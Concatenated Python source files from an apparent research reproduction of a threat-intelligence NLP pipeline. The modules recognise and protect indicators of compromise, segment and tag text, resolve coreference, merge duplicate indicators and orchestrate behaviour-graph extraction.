    "payload": frozenset({IOCType.FILEPATH, IOCType.FILENAME, IOCType.URL}),
    "tool": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
    "utility": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
    "program": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
    "process": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
    "sample": frozenset({IOCType.FILEPATH, IOCType.FILENAME, IOCType.HASH}),
    "malware": frozenset({IOCType.FILEPATH, IOCType.FILENAME, IOCType.HASH}),
    "host": frozenset({IOCType.IP, IOCType.DOMAIN}),
    "server": frozenset({IOCType.IP, IOCType.DOMAIN}),
    "machine": frozenset({IOCType.IP, IOCType.DOMAIN}),
    "address": frozenset({IOCType.IP, IOCType.DOMAIN, IOCType.EMAIL}),
    "domain": frozenset({IOCType.DOMAIN}),
    "connection": frozenset({IOCType.IP, IOCType.DOMAIN}),
}


class CoreferenceResolver:
    """Resolves pronoun (and optionally nominal) references to IOC nodes.

    Args:
        resolve_nominal: Also resolve definite noun phrases ("the file") to
            IOCs.  Disabled by default: pronoun-only resolution reproduces the
            paper's Figure 2 behaviour exactly, while nominal resolution can
            introduce extra (usually redundant) behaviour edges.
    """

    def __init__(self, resolve_nominal: bool = False) -> None:
        self._resolve_nominal = resolve_nominal

    def resolve_block(self, trees: list[DependencyTree]) -> int:
        """Resolve coreference across the trees of one block.

        Returns:
            The number of coreference links created.
        """
        links = 0
        for tree_index, tree in enumerate(trees):
            for node in tree.pronoun_nodes():
                if node.coref is not None or node.ioc is not None:
                    continue
                antecedent = self._find_antecedent(node, tree_index, trees)
                if antecedent is not None:
                    node.coref = antecedent
                    links += 1
        return links

    # -- antecedent search -----------------------------------------------------

    def _find_antecedent(
        self,
        pronoun: DependencyNode,
        tree_index: int,
        trees: list[DependencyTree],
    ) -> DependencyNode | None:
        is_nominal = pronoun.pos in ("NN", "NNS")
        if is_nominal and not self._resolve_nominal:
            return None

        candidates = self._preceding_ioc_nodes(pronoun, tree_index, trees)
        if not candidates:
            return None

        if not is_nominal:
            # Pronoun: prefer the most recent subject-side IOC (the actor of a
            # previous step), falling back to the most recent IOC.
            for candidate in reversed(candidates):
                if is_subject_like(candidate):
                    return candidate
            return candidates[-1]

        # Nominal: type compatibility plus modifier overlap.
        head = pronoun.token.lower
        compatible_types = _NOMINAL_TYPE_COMPATIBILITY.get(head)
        modifiers = {
            child.token.lower
            for child in pronoun.children
            if child.label in ("amod", "compound")
        }
        typed = [
            candidate
            for candidate in candidates
            if candidate.ioc is not None
            and (compatible_types is None or candidate.ioc.ioc_type in compatible_types)
        ]
        if not typed:
            return None
        if modifiers:
            for candidate in reversed(typed):
                text = candidate.ioc.text.lower() if candidate.ioc else ""
                if any(modifier in text for modifier in modifiers):
                    return candidate
        return typed[-1]

    @staticmethod
    def _preceding_ioc_nodes(
        pronoun: DependencyNode,
        tree_index: int,
        trees: list[DependencyTree],
    ) -> list[DependencyNode]:
        """Direct IOC nodes occurring before ``pronoun`` within the block."""
        preceding: list[DependencyNode] = []
        for index in range(tree_index + 1):
            tree = trees[index]
            for node in tree.direct_ioc_nodes():
                if index < tree_index or node.offset < pronoun.offset:
                    preceding.append(node)
        return preceding


def resolve_block(trees: list[DependencyTree], resolve_nominal: bool = False) -> int:
    """Module-level convenience wrapper around :class:`CoreferenceResolver`."""
    return CoreferenceResolver(resolve_nominal=resolve_nominal).resolve_block(trees)
