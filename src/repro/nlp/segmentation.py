"""Block and sentence segmentation of OSCTI articles.

Algorithm 1 first segments an input OSCTI article into natural **blocks**
(paragraphs, list items, headings delimited by blank lines), then segments
each block into **sentences**.  Coreference resolution later operates within a
block, so block boundaries matter: pronouns do not resolve across blocks.

Sentence segmentation operates on *protected* text, so abbreviations inside
IOCs (e.g. dots in ``/tmp/upload.tar``) can no longer produce false sentence
breaks — this is precisely why the paper protects IOCs first.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

#: Abbreviations that should not terminate a sentence despite the period.
_ABBREVIATIONS = frozenset(
    {
        "e.g",
        "i.e",
        "etc",
        "vs",
        "fig",
        "figs",
        "mr",
        "mrs",
        "dr",
        "inc",
        "corp",
        "ltd",
        "no",
        "al",
        "cf",
        "approx",
    }
)


@dataclass(frozen=True)
class TextSpan:
    """A segment of text with its offset in the parent text."""

    text: str
    start: int

    @property
    def end(self) -> int:
        return self.start + len(self.text)


def segment_blocks(document: str) -> list[TextSpan]:
    """Split a document into natural blocks.

    Blocks are separated by one or more blank lines; bullet-list items
    (lines starting with ``-``, ``*`` or a numbered marker) become their own
    blocks so each attack step described as a list item is processed
    independently.
    """
    blocks: list[TextSpan] = []
    pattern = re.compile(r"[^\n]+(?:\n(?!\s*\n)[^\n]*)*")
    for match in pattern.finditer(document):
        chunk = match.group(0)
        offset = match.start()
        # Split bullet lists inside the chunk.
        lines = chunk.split("\n")
        current: list[str] = []
        current_start = offset
        cursor = offset
        for line in lines:
            is_bullet = bool(re.match(r"\s*(?:[-*•]|\d+[.)])\s+", line))
            if is_bullet and current:
                text = "\n".join(current)
                if text.strip():
                    blocks.append(TextSpan(text=text, start=current_start))
                current = [line]
                current_start = cursor
            else:
                if not current:
                    current_start = cursor
                current.append(line)
            cursor += len(line) + 1
        if current:
            text = "\n".join(current)
            if text.strip():
                blocks.append(TextSpan(text=text, start=current_start))
    return blocks


def segment_sentences(block: str) -> list[TextSpan]:
    """Split one block into sentences.

    A sentence ends at ``.``, ``!`` or ``?`` followed by whitespace and an
    uppercase letter/digit (or end of block), unless the period belongs to a
    known abbreviation.
    """
    sentences: list[TextSpan] = []
    start = 0
    i = 0
    length = len(block)
    while i < length:
        char = block[i]
        if char in ".!?":
            # Look back for an abbreviation.
            preceding = re.search(r"([A-Za-z.]+)$", block[start : i])
            word = preceding.group(1).lower().rstrip(".") if preceding else ""
            # Single letters before a period are initials / parts of "e.g.".
            is_abbreviation = char == "." and (
                word in _ABBREVIATIONS or len(word.replace(".", "")) == 1
            )
            # Look ahead: end of block, or whitespace followed by a plausible
            # sentence start.
            j = i + 1
            while j < length and block[j] in ".!?":
                j += 1
            # The block is IOC-protected, so a period followed by whitespace is
            # almost always a real sentence boundary (dots inside IOCs are
            # gone); accept lowercase continuations too because protected IOCs
            # at sentence starts render as the lowercase dummy word.
            after = block[j:].lstrip()
            boundary = not after or bool(re.match(r"[A-Za-z0-9\"'(/]", after))
            if boundary and not is_abbreviation:
                text = block[start:j]
                if text.strip():
                    sentences.append(TextSpan(text=text, start=start))
                # Skip whitespace to the start of the next sentence.
                while j < length and block[j].isspace():
                    j += 1
                start = j
                i = j
                continue
        i += 1
    if start < length:
        remainder = block[start:]
        if remainder.strip():
            sentences.append(TextSpan(text=remainder, start=start))
    return sentences
