"""Rule-and-lexicon part-of-speech tagger (spaCy tagger substitute).

The tagger assigns a coarse Penn-style tag to every token using, in order:

1. closed-class word lists (determiners, prepositions, pronouns, auxiliaries,
   modals, conjunctions, adverbs);
2. the OSCTI relation-verb lexicon (any inflection of a candidate relation
   verb is tagged as a verb — crucial, because relation extraction depends on
   finding these verbs);
3. morphological suffix rules;
4. contextual repair rules (e.g. a noun right after a determiner, a base verb
   right after "to" or a modal);
5. a default of ``NN``.

The dummy words used by IOC protection (``something`` and the positional
placeholders ``something_0``, ``something_1``, …) are tagged ``NN`` so the
dependency parser treats protected IOCs as ordinary noun-phrase heads, which
is the entire point of IOC protection.
"""

from __future__ import annotations

from repro.nlp import lexicon
from repro.nlp.ioc import PROTECTION_WORD, is_protection_placeholder
from repro.nlp.tokenizer import Token

_VERB_SUFFIX_TAGS = (
    ("ed", "VBD"),
    ("ing", "VBG"),
    ("es", "VBZ"),
    ("s", "VBZ"),
)

_NOUN_SUFFIXES = ("tion", "ment", "ness", "ity", "ance", "ence", "ware", "age", "ist", "ism")
_ADJ_SUFFIXES = ("ous", "ful", "ive", "able", "ible", "al", "ic", "ary", "less")
_ADV_SUFFIXES = ("ly",)


def _relation_verb_lemma_candidates(word: str) -> list[str]:
    """Possible lemmas of ``word`` by stripping verbal suffixes."""
    candidates = [word]
    if word.endswith("ies"):
        candidates.append(word[:-3] + "y")
    if word.endswith("es"):
        candidates.append(word[:-2])
    if word.endswith("s"):
        candidates.append(word[:-1])
    if word.endswith("ed"):
        candidates.append(word[:-2])
        candidates.append(word[:-1])
        if len(word) > 4 and word[-3] == word[-4]:
            candidates.append(word[:-3])
    if word.endswith("ing"):
        candidates.append(word[:-3])
        candidates.append(word[:-3] + "e")
        if len(word) > 5 and word[-4] == word[-5]:
            candidates.append(word[:-4])
    return candidates


def is_relation_verb_form(word: str) -> bool:
    """True when ``word`` is an inflection of a candidate relation verb."""
    lowered = word.lower()
    if lowered in lexicon.IRREGULAR_VERB_LEMMAS:
        lemma = lexicon.IRREGULAR_VERB_LEMMAS[lowered]
        return lemma in lexicon.RELATION_VERB_OPERATIONS
    return any(
        candidate in lexicon.RELATION_VERB_OPERATIONS
        for candidate in _relation_verb_lemma_candidates(lowered)
    )


class PosTagger:
    """Assigns part-of-speech tags in place to a token sequence."""

    def tag(self, tokens: list[Token]) -> list[Token]:
        """Tag every token; returns the same list for chaining."""
        for token in tokens:
            token.pos = self._lexical_tag(token)
        self._contextual_repair(tokens)
        return tokens

    # -- rules ----------------------------------------------------------------

    def _lexical_tag(self, token: Token) -> str:
        word = token.lower
        if token.is_punctuation():
            return "PUNCT"
        if word == PROTECTION_WORD or is_protection_placeholder(word):
            return "NN"
        if word.replace(".", "").isdigit():
            return "CD"
        if word in lexicon.DETERMINERS:
            return "DT"
        if word in lexicon.MODALS:
            return "MD"
        if word in lexicon.AUXILIARIES:
            return "AUX"
        if word in lexicon.PERSONAL_PRONOUNS:
            return "PRP"
        if word in lexicon.RELATIVE_PRONOUNS:
            return "WDT"
        if word in lexicon.COORDINATING_CONJUNCTIONS:
            return "CC"
        if word in lexicon.PREPOSITIONS:
            return "IN"
        if word in lexicon.SUBORDINATING_CONJUNCTIONS:
            return "IN"
        if word in lexicon.ADVERBS:
            return "RB"
        if word in lexicon.COMMON_ADJECTIVES:
            return "JJ"
        if word in lexicon.IRREGULAR_VERB_LEMMAS:
            return "VBD"
        if is_relation_verb_form(word) or word in lexicon.OTHER_COMMON_VERBS:
            return self._verb_tag(word)
        for suffix in _ADV_SUFFIXES:
            if word.endswith(suffix) and len(word) > len(suffix) + 2:
                return "RB"
        for suffix in _NOUN_SUFFIXES:
            if word.endswith(suffix) and len(word) > len(suffix) + 2:
                return "NN"
        for suffix in _ADJ_SUFFIXES:
            if word.endswith(suffix) and len(word) > len(suffix) + 2:
                return "JJ"
        for suffix, tag in _VERB_SUFFIX_TAGS:
            if word.endswith(suffix) and len(word) > len(suffix) + 2:
                # Ambiguous: could be a plural noun ("files") or 3sg verb
                # ("reads"); default to noun and let contextual repair flip it.
                return "NNS" if tag == "VBZ" else tag
        if token.text[0].isupper():
            return "NNP"
        return "NN"

    @staticmethod
    def _verb_tag(word: str) -> str:
        if word.endswith("ing"):
            return "VBG"
        if word.endswith("ed"):
            return "VBD"
        if word.endswith("s") and not word.endswith("ss"):
            return "VBZ"
        return "VB"

    def _contextual_repair(self, tokens: list[Token]) -> None:
        for index, token in enumerate(tokens):
            previous = tokens[index - 1] if index > 0 else None
            nxt = tokens[index + 1] if index + 1 < len(tokens) else None

            # "to <verb>" — infinitive marker followed by a base verb.
            if (
                previous is not None
                and previous.lower == "to"
                and is_relation_verb_form(token.lower)
            ):
                token.pos = "VB"
                previous.pos = "TO"
            # determiner/adjective followed by something tagged verb: it's a
            # noun ("the read operation" is rare; "the compressed file" has the
            # participle acting as an adjective).
            if (
                previous is not None
                and previous.pos in ("DT", "JJ")
                and token.pos in ("VB", "VBZ")
            ):
                token.pos = "NN" if token.pos == "VB" else "NNS"
            # A bare base-form verb right after a *singular* noun is a noun
            # head ("the large archive", "the memory dump"); after a plural
            # noun it is a finite verb ("the attackers use ...").
            if (
                token.pos == "VB"
                and previous is not None
                and previous.pos in ("NN", "NNP")
            ):
                token.pos = "NN"
            # participle between determiner and noun acts as an adjective
            # ("the gathered information", "the launched process").
            if (
                previous is not None
                and previous.pos == "DT"
                and token.pos in ("VBD", "VBN", "VBG")
                and nxt is not None
                and nxt.pos in ("NN", "NNS", "NNP")
            ):
                token.pos = "JJ"
            # noun tagged after a modal or auxiliary "did/does" is a verb.
            if previous is not None and previous.pos == "MD" and token.pos in ("NN", "NNS"):
                if is_relation_verb_form(token.lower):
                    token.pos = "VB"
            # plural-noun reading directly after a pronoun/noun subject and
            # before a determiner is actually a 3sg verb ("It reads the file").
            if (
                token.pos == "NNS"
                and is_relation_verb_form(token.lower)
                and previous is not None
                and previous.pos in ("PRP", "NN", "NNS", "NNP")
                and nxt is not None
                and (
                    nxt.pos in ("DT", "PRP", "IN")
                    or nxt.lower == PROTECTION_WORD
                    or is_protection_placeholder(nxt.lower)
                )
            ):
                token.pos = "VBZ"

    # ------------------------------------------------------------------------


def tag(tokens: list[Token]) -> list[Token]:
    """Module-level convenience wrapper around :class:`PosTagger`."""
    return PosTagger().tag(tokens)
