"""IOC scan and merge (Algorithm 1, ScanMergeIoc).

After all blocks are parsed, the pipeline scans all IOCs in all trees and
"merges similar ones based on both the character-level overlap and the word
vector similarities".  Reports routinely mention the same artefact in
different surface forms — ``upload.tar`` in one sentence, ``/tmp/upload.tar``
in the next — and the merge step maps every variant to one canonical IOC so
the behaviour graph has one node per real-world artefact.

Merging must be conservative: ``/tmp/upload``, ``/tmp/upload.tar`` and
``/tmp/upload.tar.bz2`` are *different* files despite high character overlap.
The rules below therefore require either exact normalised equality, a
basename-level match between a bare file name and a path, or simultaneously
very high trigram overlap and vector similarity.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.nlp.ioc import IOC, IOCType
from repro.nlp.wordvec import character_overlap, cosine_similarity

#: Thresholds for the similarity-based merge rule.
CHARACTER_OVERLAP_THRESHOLD = 0.90
VECTOR_SIMILARITY_THRESHOLD = 0.92


def _basename(text: str) -> str:
    cleaned = text.rstrip("/\\")
    for separator in ("/", "\\"):
        if separator in cleaned:
            cleaned = cleaned.rsplit(separator, 1)[1]
    return cleaned.lower()


def should_merge(first: IOC, second: IOC) -> bool:
    """Decide whether two IOCs denote the same artefact."""
    norm_first = first.normalized()
    norm_second = second.normalized()
    if norm_first == norm_second:
        return True

    path_like = {IOCType.FILEPATH, IOCType.FILENAME}
    if first.ioc_type in path_like and second.ioc_type in path_like:
        # POSIX paths are case-sensitive: /tmp/Payload and /tmp/payload are
        # different artefacts even though every similarity heuristic below
        # (lowercased basenames, case-folded n-gram vectors) scores them as
        # near-identical.
        if norm_first != norm_second and norm_first.lower() == norm_second.lower():
            return False
        # A bare file name merges with a path whose basename equals it.
        if first.ioc_type != second.ioc_type and _basename(norm_first) == _basename(norm_second):
            return True
        # Two paths (or two names): only merge when the basenames agree and
        # the similarity is very high (e.g. "./tmp/upload.tar" vs
        # "/tmp/upload.tar"); never merge different basenames, so
        # upload.tar / upload.tar.bz2 / upload stay distinct.
        if _basename(norm_first) != _basename(norm_second):
            return False
        return (
            character_overlap(norm_first, norm_second) >= CHARACTER_OVERLAP_THRESHOLD
            and cosine_similarity(norm_first, norm_second) >= VECTOR_SIMILARITY_THRESHOLD
        )

    if first.ioc_type is IOCType.IP and second.ioc_type is IOCType.IP:
        # Defanged / CIDR-suffixed renderings of the same address.
        return norm_first.split("/")[0] == norm_second.split("/")[0]

    if first.ioc_type != second.ioc_type:
        return False

    return (
        character_overlap(norm_first, norm_second) >= CHARACTER_OVERLAP_THRESHOLD
        and cosine_similarity(norm_first, norm_second) >= VECTOR_SIMILARITY_THRESHOLD
    )


@dataclass
class MergeResult:
    """The outcome of an IOC merge pass.

    Attributes:
        canonical: The canonical IOC for every distinct input IOC.
        groups: Canonical IOC → all surface variants merged into it.
    """

    canonical: dict[IOC, IOC] = field(default_factory=dict)
    groups: dict[IOC, list[IOC]] = field(default_factory=dict)

    def resolve(self, ioc: IOC) -> IOC:
        """The canonical IOC for ``ioc`` (itself when it was never merged)."""
        return self.canonical.get(ioc, ioc)

    def canonical_iocs(self) -> list[IOC]:
        """All canonical IOCs, in first-appearance order."""
        return list(self.groups)


class IOCMerger:
    """Union-find based merger over a list of IOC occurrences."""

    def merge(self, iocs: list[IOC]) -> MergeResult:
        """Merge similar IOCs and return the canonical mapping.

        The canonical representative of a group is its most specific variant:
        the longest surface text (so ``/tmp/upload.tar`` wins over
        ``upload.tar``), breaking ties toward earliest appearance.
        """
        distinct: list[IOC] = []
        seen: set[tuple[str, IOCType]] = set()
        for ioc in iocs:
            key = (ioc.normalized(), ioc.ioc_type)
            if key not in seen:
                seen.add(key)
                distinct.append(ioc)

        parent = {index: index for index in range(len(distinct))}

        def find(index: int) -> int:
            while parent[index] != index:
                parent[index] = parent[parent[index]]
                index = parent[index]
            return index

        def union(first: int, second: int) -> None:
            root_first, root_second = find(first), find(second)
            if root_first != root_second:
                parent[root_second] = root_first

        for i in range(len(distinct)):
            for j in range(i + 1, len(distinct)):
                if should_merge(distinct[i], distinct[j]):
                    union(i, j)

        groups_by_root: dict[int, list[IOC]] = {}
        for index, ioc in enumerate(distinct):
            groups_by_root.setdefault(find(index), []).append(ioc)

        result = MergeResult()
        for members in groups_by_root.values():
            representative = max(members, key=lambda ioc: (len(ioc.text), -members.index(ioc)))
            result.groups[representative] = members
            for member in members:
                result.canonical[member] = representative
        # Map every original occurrence (including duplicates skipped above).
        for ioc in iocs:
            if ioc not in result.canonical:
                for member, representative in list(result.canonical.items()):
                    if member.normalized() == ioc.normalized() and member.ioc_type == ioc.ioc_type:
                        result.canonical[ioc] = representative
                        break
        return result


def merge_iocs(iocs: list[IOC]) -> MergeResult:
    """Module-level convenience wrapper around :class:`IOCMerger`."""
    return IOCMerger().merge(iocs)
