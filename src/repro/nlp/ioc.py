"""IOC (Indicator of Compromise) recognition and protection.

Accurately extracting threat knowledge from natural-language OSCTI text is
hard because of "massive nuances particular to the security context, such as
special characters (e.g., dots, underscores) in IOCs", which break generic NLP
tokenisation.  ThreatRaptor addresses this with two steps that this module
implements:

* **IOC recognition** — a set of regex rules recognising the IOC types that
  appear in OSCTI reports (file paths, file names, IPs, domains, URLs, email
  addresses, hashes, registry keys, CVE identifiers).
* **IOC protection** — every recognised IOC span is replaced by a *unique
  positional* dummy word (``something_0``, ``something_1``, …) before the
  general-purpose NLP modules run, and restored afterwards by placeholder
  index, so tokenisation/parsing see ordinary English.  The paper uses the
  bare word ``something``; the positional suffix keeps the trick while making
  restoration unambiguous when a report naturally contains the word
  "something" or when several IOCs land in one sentence.
"""

from __future__ import annotations

import enum
import re
from dataclasses import dataclass
from typing import Iterable

#: The dummy-word stem substituted for every protected IOC, per the paper.
#: Each occurrence gets a unique positional suffix — see
#: :func:`protection_placeholder`.
PROTECTION_WORD = "something"

_PLACEHOLDER_PATTERN = re.compile(rf"^{PROTECTION_WORD}_(\d+)$")


def protection_placeholder(index: int) -> str:
    """The unique dummy word substituted for the ``index``-th protected IOC."""
    return f"{PROTECTION_WORD}_{index}"


def is_protection_placeholder(text: str) -> bool:
    """True when ``text`` is exactly one protection placeholder."""
    return _PLACEHOLDER_PATTERN.match(text) is not None


def placeholder_index(text: str) -> int | None:
    """The positional index encoded in a placeholder, or ``None``."""
    match = _PLACEHOLDER_PATTERN.match(text)
    return int(match.group(1)) if match else None


class IOCType(enum.Enum):
    """IOC categories recognised by the extraction pipeline."""

    FILEPATH = "filepath"
    FILENAME = "filename"
    IP = "ip"
    URL = "url"
    DOMAIN = "domain"
    EMAIL = "email"
    HASH = "hash"
    REGISTRY = "registry"
    CVE = "cve"


#: IOC types whose values are case-insensitive, and therefore safe to
#: lowercase during normalisation.  Everything else (file paths, URLs with
#: case-sensitive path components, registry value names) stays case-exact.
CASE_INSENSITIVE_IOC_TYPES = frozenset(
    {IOCType.DOMAIN, IOCType.EMAIL, IOCType.HASH, IOCType.CVE}
)


@dataclass(frozen=True)
class IOC:
    """One recognised indicator of compromise.

    Attributes:
        text: The exact surface text of the indicator.
        ioc_type: The recognised category.
    """

    text: str
    ioc_type: IOCType

    def normalized(self) -> str:
        """Canonical form used for comparison.

        Trailing punctuation is stripped first, then type-specific
        canonicalization applies: defanging brackets are removed for network
        indicators, and only case-insensitive IOC types (domains, e-mail
        addresses, hex hashes, CVE ids) are lowercased.  File and registry
        paths keep their case — POSIX paths are case-sensitive, so lowercasing
        would merge distinct artefacts like ``/tmp/Payload`` and
        ``/tmp/payload`` and corrupt hash/registry comparisons downstream.
        """
        text = self.text.strip().rstrip(".,;:")
        if self.ioc_type in (IOCType.IP, IOCType.DOMAIN, IOCType.URL):
            text = _defang(text)
        if self.ioc_type in CASE_INSENSITIVE_IOC_TYPES:
            text = text.lower()
        return text


@dataclass(frozen=True)
class IOCMatch:
    """An IOC occurrence located in a piece of text."""

    ioc: IOC
    start: int
    end: int

    @property
    def text(self) -> str:
        return self.ioc.text

    @property
    def ioc_type(self) -> IOCType:
        return self.ioc.ioc_type


# ---------------------------------------------------------------------------
# Regex rules.  Order matters: more specific types are listed first so that,
# e.g., a URL is not reported as a domain plus a path fragment.
# ---------------------------------------------------------------------------

_IOC_PATTERNS: tuple[tuple[IOCType, re.Pattern[str]], ...] = (
    (
        IOCType.CVE,
        re.compile(r"\bCVE-\d{4}-\d{4,7}\b", re.IGNORECASE),
    ),
    (
        IOCType.URL,
        re.compile(
            r"\b(?:hxxps?|https?|ftp)(?::|\[:\])//[^\s\"'<>()]+", re.IGNORECASE
        ),
    ),
    (
        IOCType.EMAIL,
        re.compile(r"\b[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}\b"),
    ),
    (
        IOCType.HASH,
        re.compile(r"\b[a-fA-F0-9]{64}\b|\b[a-fA-F0-9]{40}\b|\b[a-fA-F0-9]{32}\b"),
    ),
    (
        IOCType.IP,
        re.compile(
            r"\b(?:\d{1,3}\[?\.\]?){3}\d{1,3}(?:/\d{1,2})?(?::\d{1,5})?\b"
        ),
    ),
    (
        IOCType.REGISTRY,
        re.compile(
            r"\b(?:HKEY_LOCAL_MACHINE|HKEY_CURRENT_USER|HKLM|HKCU)\\[^\s\"'<>]+",
            re.IGNORECASE,
        ),
    ),
    (
        IOCType.FILEPATH,
        # Unix absolute paths and Windows drive paths, at least one separator.
        re.compile(
            r"(?:(?<=\s)|(?<=^)|(?<=[\"'(]))"
            r"(?:/(?:[\w.+-]+/)*[\w.+-]+/?|[A-Za-z]:\\(?:[\w .+-]+\\)*[\w .+-]+)"
        ),
    ),
    (
        IOCType.FILENAME,
        # A bare file name with a known suspicious/file extension.
        re.compile(
            r"\b[\w-]+\.(?:exe|dll|bat|ps1|vbs|js|jar|sh|py|elf|bin|doc|docx|xls|"
            r"xlsx|pdf|zip|rar|7z|tar|gz|bz2|tgz|tmp|dat|cfg|conf|log|php|asp|aspx)\b",
            re.IGNORECASE,
        ),
    ),
    (
        IOCType.DOMAIN,
        re.compile(
            r"\b(?:[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?\[?\.\]?)+"
            r"(?:com|net|org|info|biz|ru|cn|io|onion|xyz|top|cc|su|tk|pw|edu|gov)\b",
            re.IGNORECASE,
        ),
    ),
)

#: Common English words that the FILENAME/DOMAIN regexes can false-positive on.
_STOPLIST = frozenset(
    {
        "e.g",
        "i.e",
        "etc",
        "vs",
        "fig",
        "et.al",
    }
)


def _defang(text: str) -> str:
    """Remove defanging brackets commonly used in OSCTI reports (``1[.]2``)."""
    return text.replace("[.]", ".").replace("[:]", ":").replace("hxxp", "http")


def recognize_iocs(text: str) -> list[IOCMatch]:
    """Recognise every IOC occurrence in ``text``.

    Overlapping matches are resolved in favour of the earlier-listed (more
    specific) type, then the longer match.  Matches are returned ordered by
    start offset.
    """
    candidates: list[tuple[int, int, int, IOCMatch]] = []
    for priority, (ioc_type, pattern) in enumerate(_IOC_PATTERNS):
        for match in pattern.finditer(text):
            surface = match.group(0)
            if surface.strip().lower().strip(".") in _STOPLIST:
                continue
            # Trim trailing punctuation the regex may have swallowed.
            trimmed = surface.rstrip(".,;:)\"'")
            if not trimmed:
                continue
            end = match.start() + len(trimmed)
            ioc = IOC(text=trimmed, ioc_type=ioc_type)
            candidates.append(
                (priority, -(end - match.start()), match.start(), IOCMatch(ioc=ioc, start=match.start(), end=end))
            )

    # Resolve overlaps: sort by priority then length (longer first), greedily
    # keep matches whose span does not overlap an already-kept span.
    candidates.sort(key=lambda item: (item[0], item[1], item[2]))
    taken: list[IOCMatch] = []
    occupied: list[tuple[int, int]] = []
    for _, _, _, match in candidates:
        if any(not (match.end <= start or match.start >= end) for start, end in occupied):
            continue
        taken.append(match)
        occupied.append((match.start, match.end))
    taken.sort(key=lambda match: match.start)
    return taken


@dataclass
class ProtectedText:
    """The result of protecting IOCs in a block of text.

    Attributes:
        original: The original text.
        text: The protected text with the ``index``-th IOC replaced by the
            unique placeholder ``protection_placeholder(index)``.
        replacements: For each protected IOC (in occurrence order — the list
            position *is* the placeholder index), the character offset of its
            placeholder in the protected text and the original IOC.
    """

    original: str
    text: str
    replacements: list[tuple[int, IOC]]

    def ioc_at_offset(self, offset: int) -> IOC | None:
        """The protected IOC whose dummy word starts at ``offset``, if any."""
        for start, ioc in self.replacements:
            if start == offset:
                return ioc
        return None

    def iocs(self) -> list[IOC]:
        """All protected IOCs in occurrence order."""
        return [ioc for _, ioc in self.replacements]


def protect_iocs(text: str) -> ProtectedText:
    """Replace every recognised IOC with a unique placeholder and record the mapping.

    Each occurrence gets a positionally unique placeholder
    (``something_0``, ``something_1``, …), so restoration is by index and
    stays unambiguous even when the report naturally contains the word
    "something" or several IOCs share one sentence.  Offsets into the
    protected text are recorded too, for consumers that align by position.
    """
    matches = recognize_iocs(text)
    pieces: list[str] = []
    replacements: list[tuple[int, IOC]] = []
    cursor = 0
    output_length = 0
    for index, match in enumerate(matches):
        prefix = text[cursor : match.start]
        pieces.append(prefix)
        output_length += len(prefix)
        replacements.append((output_length, match.ioc))
        placeholder = protection_placeholder(index)
        pieces.append(placeholder)
        output_length += len(placeholder)
        cursor = match.end
    pieces.append(text[cursor:])
    return ProtectedText(original=text, text="".join(pieces), replacements=replacements)


def ioc_type_counts(iocs: Iterable[IOC]) -> dict[str, int]:
    """Count IOCs per type (handy for report statistics and tests)."""
    counts: dict[str, int] = {}
    for ioc in iocs:
        counts[ioc.ioc_type.value] = counts.get(ioc.ioc_type.value, 0) + 1
    return counts
