"""The threat behavior extraction pipeline (Algorithm 1).

:class:`ThreatBehaviorExtractor` orchestrates the full unsupervised pipeline:

1. Block segmentation of the OSCTI article.
2. IOC recognition and IOC protection per block.
3. Sentence segmentation of the protected block.
4. Dependency parsing of each sentence, then IOC restoration in the trees.
5. Tree annotation (IOCs, candidate relation verbs, pronouns).
6. Tree simplification (drop IOC-free paths).
7. Coreference resolution across the trees of each block.
8. IOC scan and merge across all blocks.
9. IOC relation extraction per tree.
10. Threat behavior graph construction.

A deliberately naive :class:`NaiveCooccurrenceExtractor` baseline is also
provided; the extraction-accuracy experiment (EXP-NLP-ACC) compares the full
pipeline against it to show what the IOC protection and dependency-path rules
buy.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.nlp.behavior_graph import BehaviorGraphBuilder, ThreatBehaviorGraph
from repro.nlp.coref import CoreferenceResolver
from repro.nlp.depparse import DependencyParser
from repro.nlp.deptree import DependencyTree
from repro.nlp.ioc import IOC, protect_iocs, recognize_iocs
from repro.nlp.lemmatizer import lemmatize
from repro.nlp.merge import IOCMerger, MergeResult
from repro.nlp.pos import is_relation_verb_form
from repro.nlp.relation import IOCRelation, RelationExtractor
from repro.nlp.segmentation import segment_blocks, segment_sentences
from repro.nlp.tokenizer import Tokenizer


@dataclass
class ExtractionResult:
    """Everything produced by one extraction run."""

    graph: ThreatBehaviorGraph
    relations: list[IOCRelation] = field(default_factory=list)
    iocs: list[IOC] = field(default_factory=list)
    merge_result: MergeResult | None = None
    trees: list[DependencyTree] = field(default_factory=list)
    coreference_links: int = 0

    def canonical_iocs(self) -> list[IOC]:
        """Distinct canonical IOCs, in first-appearance order.

        This is the same canonical form downstream query synthesis consumes
        (merge-pass representatives, deduplicated by ``IOC.normalized()`` and
        type), so counts derived from it match the synthesized filters.
        """
        if self.merge_result is not None:
            return self.merge_result.canonical_iocs()
        seen: dict[tuple[str, object], IOC] = {}
        for ioc in self.iocs:
            seen.setdefault((ioc.normalized(), ioc.ioc_type), ioc)
        return list(seen.values())


class ThreatBehaviorExtractor:
    """The full NLP extraction pipeline of Algorithm 1.

    The three ablation switches exist for the EXP-ABL-NLP experiment, which
    quantifies what each design choice of the paper contributes; production
    use keeps them all at their defaults.

    Args:
        resolve_nominal_coreference: Forwarded to
            :class:`~repro.nlp.coref.CoreferenceResolver`.
        protect_iocs_enabled: Ablation switch — when False, the raw block text
            is parsed without replacing IOCs by the dummy word, so IOC-internal
            punctuation corrupts sentence segmentation and parsing (IOCs are
            still located in the raw text so relation extraction can run).
        resolve_coreference: Ablation switch — when False, pronouns are never
            linked to IOC antecedents.
        simplify_trees: Ablation switch — when False, dependency trees are not
            pruned before relation extraction.
    """

    def __init__(
        self,
        resolve_nominal_coreference: bool = False,
        protect_iocs_enabled: bool = True,
        resolve_coreference: bool = True,
        simplify_trees: bool = True,
    ) -> None:
        self._parser = DependencyParser()
        self._coref = CoreferenceResolver(resolve_nominal=resolve_nominal_coreference)
        self._merger = IOCMerger()
        self._relations = RelationExtractor()
        self._builder = BehaviorGraphBuilder()
        self._protect_iocs = protect_iocs_enabled
        self._resolve_coref = resolve_coreference
        self._simplify = simplify_trees

